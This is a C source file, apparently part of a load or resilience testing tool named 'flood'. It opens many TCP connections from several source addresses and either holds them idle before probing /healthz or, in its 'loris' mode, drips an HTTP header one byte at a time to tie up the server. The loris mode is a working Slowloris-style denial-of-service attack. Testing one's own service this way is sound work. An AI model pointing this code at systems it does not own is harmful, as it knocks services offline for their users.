/*
 * Many connections of the kernel's own TCP, from several source addresses, in one thread.
 *
 *   hold   opens them, keeps them idle for a while, then asks each for /healthz and counts who still answers
 *   loris  opens them and feeds each a header byte by byte, and again when the node ends it
 */
#include "flood.h"

#include <arpa/inet.h>
#include <errno.h>
#include <netinet/in.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/epoll.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

enum { OPENING_MAX = 512, EVENTS_MAX = 512, DRIP_MS = 500 };

enum state { CLOSED, OPENING, OPEN, ASKED, DONE };

struct connection {
	int fd;
	uint8_t state; /* enum state */
	uint32_t dripped;
};

struct run {
	const struct flood_options *options;
	struct connection *connection;
	int epoll;
	uint32_t opening, open, next;
	uint64_t opened, ended, failed, answered;
};

static const char drip[] = "POST /api/v1/clicks HTTP/1.1\r\nHost: x\r\nX-Slow: ";
static const char request[] = "GET /healthz HTTP/1.1\r\nHost: x\r\n\r\n";

static void connection_end(struct run *run, struct connection *connection)
{
	close(connection->fd);
	if (connection->state == OPENING)
		run->opening--;
	else
		run->open--;
	*connection = (struct connection){.fd = -1};
}

static void connection_begin(struct run *run, uint32_t index)
{
	const struct flood_options *options = run->options;
	const struct tp_addr *source = &options->source[index % options->sources];
	struct sockaddr_in from = {.sin_family = AF_INET}, to = {.sin_family = AF_INET, .sin_port = htons(options->to.port)};
	struct connection *connection = &run->connection[index];
	struct epoll_event event = {.events = EPOLLOUT, .data.u32 = index};
	const int one = 1, small = 4096;

	memcpy(&from.sin_addr, source->byte + 12, 4);
	memcpy(&to.sin_addr, options->to.addr.byte + 12, 4);
	connection->fd = socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK, 0);
	if (connection->fd < 0) {
		run->failed++;
		return;
	}
	/* ports are picked at connect, so each source address has all of them */
	setsockopt(connection->fd, IPPROTO_IP, IP_BIND_ADDRESS_NO_PORT, &one, sizeof(one));
	setsockopt(connection->fd, SOL_SOCKET, SO_RCVBUF, &small, sizeof(small));
	if (bind(connection->fd, (struct sockaddr *)&from, sizeof(from)) != 0 ||
	    (connect(connection->fd, (struct sockaddr *)&to, sizeof(to)) != 0 && errno != EINPROGRESS)) {
		close(connection->fd);
		connection->fd = -1;
		run->failed++;
		return;
	}
	epoll_ctl(run->epoll, EPOLL_CTL_ADD, connection->fd, &event);
	connection->state = OPENING;
	run->opening++;
}

/* Opens more while there is room; stops at the last connection, or goes round for ever. */
static void connections_begin(struct run *run, bool again)
{
	for (uint32_t tried = 0; run->opening < OPENING_MAX && tried < OPENING_MAX; tried++) {
		if (run->next == run->options->connections) {
			if (!again)
				return;
			run->next = 0;
		}
		if (run->connection[run->next].state == CLOSED)
			connection_begin(run, run->next);
		run->next++;
	}
}

static void connection_ready(struct run *run, uint32_t index, uint32_t events)
{
	struct connection *connection = &run->connection[index];
	struct epoll_event quiet = {.events = EPOLLIN, .data.u32 = index};
	char text[512];

	if (connection->state == OPENING) {
		int error = 0;
		socklen_t bytes = sizeof(error);
		getsockopt(connection->fd, SOL_SOCKET, SO_ERROR, &error, &bytes);
		if (error || events & (EPOLLERR | EPOLLHUP)) {
			run->failed++;
			connection_end(run, connection);
			return;
		}
		epoll_ctl(run->epoll, EPOLL_CTL_MOD, connection->fd, &quiet);
		connection->state = OPEN;
		run->opening--;
		run->open++;
		run->opened++;
		return;
	}
	const ssize_t got = recv(connection->fd, text, sizeof(text), 0);
	if (got > 0 && connection->state == ASKED && strncmp(text, "HTTP/1.1 200", 12) == 0) {
		run->answered++;
		connection->state = DONE;
	} else if (got == 0 || (got < 0 && errno != EAGAIN)) {
		run->ended++;
		connection_end(run, connection);
	}
}

static void events_take(struct run *run, int wait_ms)
{
	struct epoll_event event[EVENTS_MAX];
	const int count = epoll_wait(run->epoll, event, EVENTS_MAX, wait_ms);

	for (int i = 0; i < count; i++)
		if (run->connection[event[i].data.u32].state != CLOSED)
			connection_ready(run, event[i].data.u32, event[i].events);
}

static void hold(struct run *run)
{
	const uint32_t wanted = run->options->connections;
	double end = flood_now() + 120;

	while ((run->next < wanted || run->opening > 0) && flood_now() < end) {
		connections_begin(run, false);
		events_take(run, 10);
	}
	printf("{\"opened\":%u}\n", run->open);
	fflush(stdout);
	for (end = flood_now() + run->options->seconds; flood_now() < end;)
		events_take(run, 50);
	const uint32_t held = run->open;
	end = flood_now() + 60;
	uint64_t asked = 0;
	for (uint32_t i = 0; i < wanted && flood_now() < end; i++) {
		struct connection *connection = &run->connection[i];
		while (asked >= run->answered + OPENING_MAX && flood_now() < end)
			events_take(run, 1);
		if (connection->state == OPEN && send(connection->fd, request, strlen(request), MSG_NOSIGNAL) > 0) {
			connection->state = ASKED;
			asked++;
		}
	}
	while (run->answered < held && flood_now() < end)
		events_take(run, 10);
	printf("{\"kind\":\"hold\",\"opened\":%llu,\"held\":%u,\"answered\":%llu,\"failed\":%llu,\"ended_by_node\":%llu}\n",
	       (unsigned long long)run->opened, held, (unsigned long long)run->answered, (unsigned long long)run->failed,
	       (unsigned long long)run->ended);
}

static void loris(struct run *run)
{
	const double end = flood_now() + run->options->seconds;
	uint64_t bytes = 0;

	for (double next = flood_now(); flood_now() < end;) {
		connections_begin(run, true);
		events_take(run, 10);
		if (flood_now() < next)
			continue;
		next += DRIP_MS / 1000.0;
		for (uint32_t i = 0; i < run->options->connections; i++) {
			struct connection *connection = &run->connection[i];
			const char one = connection->dripped < sizeof(drip) - 1 ? drip[connection->dripped] : 'x';
			if (connection->state == OPEN && send(connection->fd, &one, 1, MSG_NOSIGNAL | MSG_DONTWAIT) == 1) {
				connection->dripped++;
				bytes++;
			}
		}
	}
	printf("{\"kind\":\"loris\",\"opened\":%llu,\"ended_by_node\":%llu,\"failed\":%llu,\"bytes\":%llu}\n",
	       (unsigned long long)run->opened, (unsigned long long)run->ended, (unsigned long long)run->failed,
	       (unsigned long long)bytes);
}

int flood_connections(const struct flood_options *options)
{
	const struct rlimit files = {.rlim_cur = options->connections + 64, .rlim_max = options->connections + 64};
	struct run run = {.options = options, .epoll = epoll_create1(0)};

	if (setrlimit(RLIMIT_NOFILE, &files) != 0)
		perror("flood: files");
	run.connection = calloc(options->connections, sizeof(*run.connection));
	if (run.epoll < 0 || !run.connection)
		return 1;
	if (strcmp(options->kind, "hold") == 0)
		hold(&run);
	else
		loris(&run);
	close(run.epoll);
	free(run.connection);
	return 0;
}
